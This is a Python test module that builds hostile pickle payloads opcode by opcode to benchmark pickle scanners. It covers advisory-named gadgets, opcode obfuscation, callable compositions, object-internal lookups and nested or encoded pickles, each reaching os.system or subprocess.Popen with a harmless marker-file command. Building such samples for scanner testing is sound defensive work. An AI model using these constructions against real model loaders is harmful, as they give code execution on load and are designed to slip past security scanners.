"""Pickles that would do harm if they were loaded, put together opcode by opcode; their payload only names a marker
file.

Every family is one way in which published attacks reach a callable or blind a scanner. Nobody loads them: tests and the
benchmark read them. Sources: the advisories named in `ADVISORIES`, https://github.com/protectai/modelscan,
https://github.com/mmaitre314/picklescan/security/advisories, https://github.com/trailofbits/fickling/security/advisories.
"""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Iterator
from importlib.resources import files

MARKER = "upright-marker-never-made"
COMMAND = f"touch {MARKER}"


def _advisories() -> tuple[tuple[str, str, str], ...]:
    """(advisory, module, name) of callables that advisories name, from `hostile_names.txt`."""
    lines = files(__package__).joinpath("hostile_names.txt").read_text(encoding="utf-8").splitlines()
    rows = (line.split() for line in lines if not line.startswith("#"))
    return tuple((advisory, module, attribute) for advisory, module, attribute in rows)


ADVISORIES = _advisories()


def text(value: str) -> bytes:
    """A text constant of protocol 4."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw  # noqa: PLR2004


def data(value: bytes) -> bytes:
    """A bytes constant."""
    return b"B" + struct.pack("<I", len(value)) + value


def name(module: str, attribute: str) -> bytes:
    """An import by GLOBAL."""
    return b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"


def stacked(module: str, attribute: str) -> bytes:
    """An import by STACK_GLOBAL."""
    return text(module) + text(attribute) + b"\x93"


def called(callee: bytes, *arguments: bytes) -> bytes:
    """A call by REDUCE."""
    return callee + b"(" + b"".join(arguments) + b"tR"


def whole(body: bytes, protocol: int = 4) -> bytes:
    """A pickle of one value."""
    return b"\x80" + bytes([protocol]) + body + b"."


SYSTEM = name("os", "system")
PAYLOAD = called(SYSTEM, text(COMMAND))


def named_gadgets() -> Iterator[tuple[str, bytes]]:
    """Every callable of an advisory, imported in both ways."""
    for number, (advisory, module, attribute) in enumerate(ADVISORIES):
        for way, callee in (("global", name(module, attribute)), ("stack", stacked(module, attribute))):
            label = f"{advisory}-{number:02}-{module}.{attribute}-{way}"
            yield label, whole(called(callee, text(COMMAND)) + b"0}")


def opcode_tricks() -> Iterator[tuple[str, bytes]]:
    """The same call, hidden in how the opcodes say it."""
    command = text(COMMAND)
    line = COMMAND.encode()
    yield "protocol-0", b"cos\nsystem\n(S'" + line + b"'\ntR."
    yield "protocol-1-inst", b"(S'" + line + b"'\nios\nsystem\n."
    yield "obj", b"(cos\nsystem\n" + command + b"o."
    yield "inst-without-end", b"(S'" + line + b"'\nios\nsystemX"
    yield "newobj-ex", whole(name("subprocess", "Popen") + b"(" + command + b"t}\x92")
    yield "headerless", stacked("os", "system") + command + b"\x85R."
    yield (
        "names-from-memo",
        whole(text("os") + b"q\x00" + b"0" + text("system") + b"q\x01" + b"0h\x00h\x01\x93" + command + b"\x85R"),
    )
    yield (
        "memo-overwritten",
        whole(text("json") + b"q\x000" + text("os") + b"q\x000h\x00" + text("system") + b"\x93" + command + b"\x85R"),
    )
    yield (
        "name-built",
        whole(text("os") + called(name("operator", "concat"), text("sys"), text("tem")) + b"\x93" + command + b"\x85R"),
    )
    yield "dup-pop-noise", whole(b"N20" * 50 + b"(NNN1" + PAYLOAD + b"0N")
    yield "result-popped", whole(PAYLOAD + b"0" + text("weights"))
    yield "result-in-pop-mark", whole(b"(" + PAYLOAD + b"1]")
    yield "frame-too-long", b"\x80\x04\x95\xff\x00\x00\x00\x00\x00\x00\x00" + PAYLOAD + b"."
    yield "protocol-again", b"\x80\x04\x80\x02" + PAYLOAD + b"."
    yield "odd-integers", whole(b"I0x10\n0I 1_0\n0L0b1L\n0" + PAYLOAD)
    yield "broken-after", b"\x80\x04" + PAYLOAD + b"\xff\xff\xff"
    yield "stack-broken-after", b"\x80\x04" + PAYLOAD + b"000000."
    yield "cut-off", b"\x80\x04" + PAYLOAD
    yield "second-stream", whole(b"N") + whole(PAYLOAD)
    yield "padded-second-stream", whole(b"N") + bytes(5000) + whole(PAYLOAD)
    yield "after-rubbish", whole(b"N") + b"\xde\xad\xbe\xef" + whole(PAYLOAD)
    yield "after-many-opcodes", whole(b"N0" * 60_000 + PAYLOAD)
    yield "after-long-text", whole(b"X" + struct.pack("<I", 3_000_000) + b"a" * 3_000_000 + b"0" + PAYLOAD)
    yield "extension", whole(b"\x82\x07" + command + b"\x85R")
    yield (
        "setstate",
        whole(name("collections", "UserDict") + b")\x81}" + text("__setstate__") + SYSTEM + b"sb" + command + b"b"),
    )
    yield "build-on-class", whole(name("collections", "OrderedDict") + b"}" + text("__reduce__") + SYSTEM + b"sb")
    yield "setitem-on-modules", whole(name("sys", "modules") + text("os") + b"Ns")
    yield "utf-8-name", whole(called(stacked("os", "system"), command)) + b"\n"
    yield "persistent-noise", whole(b"Px\n0K\x01Q0" + PAYLOAD)


def compositions() -> Iterator[tuple[str, bytes]]:
    """Callables put together from harmless ones."""
    command = text(COMMAND)
    get = name("builtins", "getattr")
    imported = called(name("builtins", "__import__"), text("os"))
    yield "getattr", whole(called(called(get, imported, text("system")), command))
    yield "getattr-of-module", whole(called(called(get, name("random", "_os"), text("system")), command))
    yield "attrgetter", whole(called(called(called(name("operator", "attrgetter"), text("system")), imported), command))
    yield "methodcaller", whole(called(called(name("operator", "methodcaller"), text("system"), command), imported))
    yield (
        "itemgetter",
        whole(called(called(name("operator", "itemgetter"), text("eval")), name("builtins", "__dict__"))),
    )
    yield "partial", whole(called(called(name("functools", "partial"), SYSTEM), command))
    yield (
        "partial-state",
        whole(
            name("functools", "partial")
            + name("builtins", "len")
            + b"\x85R"
            + b"("
            + SYSTEM
            + b"("
            + command
            + b"t}Ntb)R"
        ),
    )
    yield "reduce", whole(called(name("functools", "reduce"), SYSTEM, b"](" + command + b"e"))
    yield (
        "reduce-getattr",
        whole(
            called(
                called(
                    name("functools", "reduce"),
                    get,
                    b"](" + text("_os") + text("system") + b"e",
                    name("builtins", "random"),
                ),
                command,
            )
        ),
    )
    yield (
        "map-consumed",
        whole(name("builtins", "list") + name("builtins", "map") + b"(" + SYSTEM + b"](" + command + b"et\x81\x85R"),
    )
    yield "filter", whole(called(name("builtins", "filter"), SYSTEM, b"](" + command + b"e"))


def lookups() -> Iterator[tuple[str, bytes]]:
    """Callables found by name, made, or reached through the inside of objects."""
    command = text(COMMAND)
    get = name("builtins", "getattr")
    yield "starmap", whole(called(name("itertools", "starmap"), SYSTEM, b"]((" + command + b"te"))
    yield "operator-call", whole(called(name("operator", "call"), SYSTEM, command))
    yield "resolve-name", whole(called(called(name("pkgutil", "resolve_name"), text("os:system")), command))
    yield "locate", whole(called(called(name("pydoc", "locate"), text("os.system")), command))
    yield (
        "ufunc-reconstruct",
        whole(called(called(name("numpy.core", "_ufunc_reconstruct"), text("os"), text("system")), command)),
    )
    yield (
        "import-dotted",
        whole(called(called(name("torch._utils", "_import_dotted_name"), text("os.system")), command)),
    )
    yield (
        "rebuild-from-type",
        whole(
            called(
                name("torch._tensor", "_rebuild_from_type_v2"),
                SYSTEM,
                name("torch", "Tensor"),
                b"(" + command + b"t",
                b"}",
            )
        ),
    )
    yield "new-index", whole(called(name("pandas.core.indexes.base", "_new_Index"), name("subprocess", "Popen"), b"}"))
    yield "subclasses-walk", whole(called(get, called(get, text("x"), text("__class__")), text("__base__")))
    yield (
        "format-walk",
        whole(
            called(
                called(get, text("{0.__class__.__init__.__globals__}"), text("format")),
                name("collections", "OrderedDict"),
            )
        ),
    )
    yield "defaultdict", whole(called(name("collections", "defaultdict"), SYSTEM))
    yield (
        "reconstructor",
        whole(called(name("copyreg", "_reconstructor"), name("subprocess", "Popen"), name("builtins", "object"), b"N")),
    )
    yield (
        "code-object",
        whole(called(name("types", "FunctionType"), called(name("marshal", "loads"), data(b"\xe3")), b"}")),
    )
    yield (
        "cloudpickle-run",
        whole(called(called(name("cloudpickle.cloudpickle", "_make_function"), text("os"), text("system")), command)),
    )
    yield (
        "path-write",
        whole(called(called(get, called(name("pathlib", "PosixPath"), text(MARKER)), text("write_text")), text("x"))),
    )
    yield (
        "class-of-instance",
        whole(called(called(name("builtins", "type"), called(name("subprocess", "Popen"), command)), command)),
    )


def nested() -> Iterator[tuple[str, bytes]]:
    """Pickles in the bytes of pickles."""
    inner = whole(PAYLOAD)
    yield "loads", whole(called(name("_pickle", "loads"), data(inner)))
    yield "torch-load-from-bytes", whole(called(name("torch.storage", "_load_from_bytes"), data(inner)))
    yield "bytesio", whole(called(name("pickle", "loads"), called(name("io", "BytesIO"), data(inner))))
    packed = base64.b64encode(inner)
    yield "base64", whole(called(name("pickle", "loads"), called(name("base64", "b64decode"), data(packed))))
    yield "zlib", whole(called(name("pickle", "loads"), called(name("zlib", "decompress"), data(zlib.compress(inner)))))
    twice = whole(called(name("pickle", "loads"), data(inner)))
    yield "twice", whole(called(name("dill", "loads"), data(twice)))
    yield (
        "latin-1",
        whole(
            called(
                name("pickle", "loads"),
                called(name("_codecs", "encode"), text(inner.decode("latin-1")), text("latin1")),
            ),
            2,
        ),
    )


def hostile_pickles() -> dict[str, bytes]:
    """Every hostile pickle by the name of its family and trick."""
    families = {
        "gadget": named_gadgets,
        "opcode": opcode_tricks,
        "composition": compositions,
        "lookup": lookups,
        "nested": nested,
    }
    return {f"{family}/{label}": content for family, made in families.items() for label, content in made()}
